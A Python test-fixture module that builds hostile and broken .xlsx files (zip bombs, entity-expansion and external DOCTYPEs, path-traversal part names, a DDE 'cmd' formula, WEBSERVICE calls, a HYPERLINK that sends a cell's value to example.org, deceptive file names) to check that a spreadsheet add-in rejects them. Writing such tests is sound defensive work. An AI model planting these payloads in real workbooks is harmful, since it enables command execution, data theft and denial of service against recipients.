"""Files that would harm whoever reads them trustingly, damaged files, and files of other kinds."""

from __future__ import annotations

import io
import os
import random
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path

import msoffcrypto.format.ooxml
from PIL import Image

from danvan_xl.addin.compound import compound_file
from tests.broken.editing import Maker
from tests.broken.kind import Kind, accepted, as_it_is, unreadable
from tests.broken.kinds_of_file import letter
from tests.ooxml.handmade import HEAD, MAIN, REL, rels, unzipped, with_parts, zipped
from tests.submissions.hostile_makers import LAUGHS, OUTSIDE, bare_xls, record

SHEET = "xl/worksheets/sheet2.xml"
SHEET_LINKS = "xl/worksheets/_rels/sheet2.xml.rels"
BOOK = "xl/workbook.xml"
BOOK_LINKS = "xl/_rels/workbook.xml.rels"


def with_text(part: str, old: str, new: str) -> Maker:
    """A text of one part replaced, once."""

    def make(form: bytes) -> bytes:
        content = unzipped(form)[part].decode()
        assert old in content
        return with_parts(form, {part: content.replace(old, new, 1)})

    return make


def with_row(row: str) -> Maker:
    return with_text(SHEET, "</sheetData>", f"{row}</sheetData>")


def with_part(name: str, content: str | bytes) -> Maker:
    return lambda form: with_parts(form, {name: content})


def with_link(place: str, kind: str, target: str, external: bool = False) -> Maker:
    """A link added to a part's list."""

    def make(form: bytes) -> bytes:
        listed = unzipped(form).get(place, rels({}).encode()).decode()
        mode = "External" if external else "Internal"
        link = f'<Relationship Id="x9" Type="{REL}/{kind}" Target="{target}" TargetMode="{mode}"/>'
        end = "</Relationships>"
        return with_parts(form, {place: listed.replace(end, link + end)})

    return make


def with_formula(formula: str) -> Maker:
    """A formula far from the tables, with a result."""
    return with_row(f'<row r="900"><c r="A900"><f>{formula}</f><v>1</v></c></row>')


def declared(doctype: str, part: str) -> Maker:
    def make(form: bytes) -> bytes:
        text = unzipped(form)[part].decode()
        head, _, rest = text.partition("?>")
        return with_parts(form, {part: f"{head}?>{doctype}{rest}"})

    return make


def external_book(form: bytes) -> bytes:
    content = (
        f'{HEAD}<externalLink xmlns="{MAIN}" xmlns:r="{REL}"><externalBook r:id="rId1">'
        '<sheetNames><sheetName val="S"/></sheetNames></externalBook></externalLink>'
    )
    links = rels({"rId1": ("externalLinkPath", "file:///C:/so-lieu.xlsx")})
    linked = with_link(BOOK_LINKS, "externalLink", "externalLinks/externalLink1.xml")(form)
    return with_parts(
        linked,
        {
            "xl/externalLinks/externalLink1.xml": content,
            "xl/externalLinks/_rels/externalLink1.xml.rels": links.replace(
                "/></Rel", ' TargetMode="External"/></Rel'
            ),
        },
    )


def bomb_by_ratio(form: bytes) -> bytes:
    """300 MB of the same row: hundreds of times what the file has."""
    return _bomb(form, b"<row><c><v>1</v></c></row>" * 40_000, 300)


def bomb_by_size(form: bytes) -> bytes:
    """As much of what packs as badly as true figures do, so that the ratio is an ordinary one."""
    rng = random.Random(4418)
    row = "".join(f"<row><c><v>{rng.randrange(10**9)}</v></c></row>" for _ in range(30_000))
    return _bomb(form, row.encode(), 70)


def _bomb(form: bytes, block: bytes, times: int) -> bytes:
    """The form with a sheet more, of ``times`` megabyte blocks."""
    out = io.BytesIO(form)
    with (
        zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
        archive.open("xl/worksheets/sheet9.xml", "w") as part,
    ):
        part.write(f'{HEAD}<worksheet xmlns="{MAIN}"><sheetData>'.encode())
        for _ in range(times):
            part.write(block)
        part.write(b"</sheetData></worksheet>")
    return out.getvalue()


def many_parts(form: bytes) -> bytes:
    out = io.BytesIO(form)
    with zipfile.ZipFile(out, "a") as archive:
        for number in range(100_000):
            archive.writestr(zipfile.ZipInfo(f"xl/media/{number}"), b"")
    return out.getvalue()


def part_twice(form: bytes) -> bytes:
    out = io.BytesIO(form)
    with warnings.catch_warnings(), zipfile.ZipFile(out, "a") as archive:
        warnings.simplefilter("ignore")
        archive.writestr(zipfile.ZipInfo(SHEET), archive.read(SHEET))
    return out.getvalue()


def part_called(name: str) -> Maker:
    """A spare part whose name leads elsewhere."""

    def make(form: bytes) -> bytes:
        stand_in = "q" * len(name.encode())
        return with_parts(form, {stand_in: "x"}).replace(stand_in.encode(), name.encode())

    return make


def wrong_checksum(form: bytes) -> bytes:
    """One byte of a sheet's packed bytes is another one."""
    data = bytearray(form)
    with zipfile.ZipFile(io.BytesIO(form)) as archive:
        info = archive.getinfo(SHEET)
    data[info.header_offset + 30 + len(SHEET) + info.compress_size // 2] ^= 0xFF
    return bytes(data)


def cut_at(share: float) -> Maker:
    return lambda form: form[: int(len(form) * share)]


def sheet_cut(form: bytes) -> bytes:
    part = unzipped(form)[SHEET]
    return with_parts(form, {SHEET: part[: len(part) // 2]})


def repeated_text(form: bytes) -> bytes:
    """One text of 32,000 letters in 20,000 cells."""
    texts = unzipped(form)["xl/sharedStrings.xml"].decode()
    number = texts.count("<si>")
    rows = "".join(
        f'<row r="{n}"><c r="Z{n}" t="s"><v>{number}</v></c></row>' for n in range(1001, 21_001)
    )
    longer = texts.replace("</sst>", f"<si><t>{'x' * 32_000}</t></si></sst>")
    return with_parts(with_row(rows)(form), {"xl/sharedStrings.xml": longer})


def encrypted(form: bytes) -> bytes:
    """With a password to open, as Excel does it."""
    out = io.BytesIO()
    msoffcrypto.format.ooxml.OOXMLFile(io.BytesIO(form)).encrypt("danvan", out)
    return out.getvalue()


def picture(kind: str) -> Maker:
    def make(_: bytes) -> bytes:
        out = io.BytesIO()
        Image.new("RGB", (40, 40), "white").save(out, kind)
        return out.getvalue()

    return make


def word_document(form: bytes) -> bytes:
    types = unzipped(form)["[Content_Types].xml"].decode()
    return zipped(
        {
            "[Content_Types].xml": types.replace(
                "spreadsheetml.sheet", "wordprocessingml.document"
            ),
            "word/document.xml": "<a/>",
        }
    )


def fixed(data: bytes) -> Maker:
    return lambda _: data


def random_bytes(form: bytes) -> bytes:
    return random.Random(len(form)).randbytes(5_000)


def letter_without_form(_: bytes) -> bytes:
    return b"From: a@example.vn\r\nSubject: Bao cao\r\nMIME-Version: 1.0\r\n\r\nKinh gui\r\n"


def link_to_it(path: Path, data: bytes) -> None:
    """The file lies elsewhere and is only linked to."""
    elsewhere = path.parent.parent / f"nơi khác {path.name}"
    elsewhere.write_bytes(data)
    path.symlink_to(elsewhere)


def pipe(path: Path, data: bytes) -> None:
    """Whoever opens it to read waits for ever."""
    del data
    os.mkfifo(path)


OLE_RECORD = compound_file({"Workbook": bare_xls(), "MBD0001": {"\x01Ole": bytes(20)}})
_CELL = '<row r="{0}"><c r="{1}{0}"><v>1</v></c></row>'

HARMFUL: dict[str, tuple[Callable[[bytes], bytes], str]] = {
    "a bomb by ratio": (bomb_by_ratio, "T07"),
    "a bomb by size": (bomb_by_size, "T07"),
    "100,000 parts": (many_parts, "T07"),
    "a cell at the end of the sheet": (with_row(_CELL.format(1048576, "XFD")), "T07"),
    "one long text in many cells": (repeated_text, "T07"),
    "XML 100,000 elements deep": (
        with_text(SHEET, "</worksheet>", f"{'<a>' * 100_000}{'</a>' * 100_000}</worksheet>"),
        "T05",
    ),
    "a DOCTYPE from the web": (declared(OUTSIDE, SHEET), "T10"),
    "an entity that grows": (declared(LAUGHS, BOOK), "T10"),
    "a DOCTYPE in the shared texts": (declared(LAUGHS, "xl/sharedStrings.xml"), "T10"),
    "figures from another workbook": (external_book, "T11"),
    "a formula on another workbook": (with_formula("'C:\\a\\[b.xlsx]S'!A1"), "T11"),
    "a connection": (with_link(BOOK_LINKS, "connections", "connections.xml"), "T11"),
    "a picture from a share": (with_link(SHEET_LINKS, "image", "file://pc/a.png", True), "T11"),
    "a command as a formula": (with_formula("cmd|'/C calc'!A0"), "T12"),
    "a question to the web": (with_formula('_xlfn.WEBSERVICE("http://example.org")'), "T12"),
    "a link that carries a cell away": (
        with_formula('HYPERLINK("http://example.org/?"&amp;B1,"xem")'),
        "T12",
    ),
    "an embedded object": (
        with_link(SHEET_LINKS, "oleObject", "../embeddings/oleObject1.bin"),
        "T13",
    ),
    "an embedded file": (with_part("xl/embeddings/a.docx", "x"), "T13"),
    "an ActiveX control": (with_link(SHEET_LINKS, "control", "../activeX/activeX1.xml"), "T14"),
    "an object in an old .xls": (fixed(OLE_RECORD), "T13"),
    "a password": (encrypted, "T04"),
    "a password of an old .xls": (
        fixed(compound_file({"Workbook": bare_xls(record(0x2F, bytes(6)))})),
        "T04",
    ),
    "a part above the folder": (part_called("../../a.xml"), "T10"),
    "a part on a drive": (part_called("C:/a.xml"), "T10"),
    "a part twice": (part_twice, "T10"),
    "a wrong checksum": (wrong_checksum, "T05"),
    "the first tenth": (cut_at(0.1), "T05"),
    "the first half": (cut_at(0.5), "T05"),
    "nearly all of it": (cut_at(0.99), "T05"),
    "but for the last bytes": (lambda form: form[:-3], "T05"),
    "a sheet cut": (sheet_cut, "T05"),
    "something before it": (lambda form: b"MZ" + form, "T06"),
    "the form behind itself": (lambda form: form + form, "T05"),
    "no workbook part": (lambda form: with_parts(form, {BOOK: None}), "T05"),
    "no sheet part": (lambda form: with_parts(form, {SHEET: None}), "T05"),
    "an empty file": (fixed(b""), "T18"),
    "only zeros": (fixed(bytes(5_000)), "T05"),
    "random bytes": (random_bytes, "T06"),
    "a picture (PNG)": (picture("PNG"), "T06"),
    "a scan (JPEG)": (picture("JPEG"), "T06"),
    "a PDF": (fixed(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n"), "T06"),
    "a Word document": (word_document, "T06"),
    "an RTF": (fixed(b"{\\rtf1\\ansi Bao cao}"), "T06"),
    "a zip with the form": (lambda form: zipped({"phieu.xlsx": form}), "T06"),
    "a RAR": (fixed(b"Rar!\x1a\x07\x01\x00" + bytes(60)), "T06"),
    "a 7z": (fixed(b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(60)), "T06"),
    "a letter called .xlsx": (letter, "T06"),
    "a text": (fixed("Kính gửi Sở Nội vụ, đơn vị xin báo cáo.\n".encode()), "T02"),
    "a workbook that is no form": (
        fixed(b"<html><table><tr><td>STT<td>Ho ten</tr><tr><td>1<td>A</tr></table></html>"),
        "T02",
    ),
}
"""What it is → its maker and the code; all are called .xlsx."""

ODD_PLACES: dict[str, Kind] = {
    "a link to a file elsewhere": unreadable(as_it_is, "T15", lies=link_to_it),
    "a pipe": unreadable(as_it_is, "T15", lies=pipe),
    "a name that reads backwards": unreadable(
        as_it_is, "T15", name="phieu-{number}\N{RIGHT-TO-LEFT OVERRIDE}fdp.xlsx"
    ),
    "a name with a line break": unreadable(as_it_is, "T15", name="phieu\n{number}.xlsx"),
    "a name of a path": unreadable(as_it_is, "T15", name="xl\\{number}.xlsx"),
}
"""What only systems have that take such files and names."""

KINDS: dict[str, Kind] = {
    **{name: unreadable(make, code) for name, (make, code) in HARMFUL.items()},
    "a letter without a form": unreadable(letter_without_form, "T19", name="{number}.eml"),
    "a link to a page": accepted(
        with_link(SHEET_LINKS, "hyperlink", "https://example.org/a", True), ""
    ),
    **(ODD_PLACES if os.name == "posix" else {}),
    "a part that nobody needs": accepted(with_part("xl/media/anh.png", b"\x89PNG"), ""),
}
"""Name → kind."""
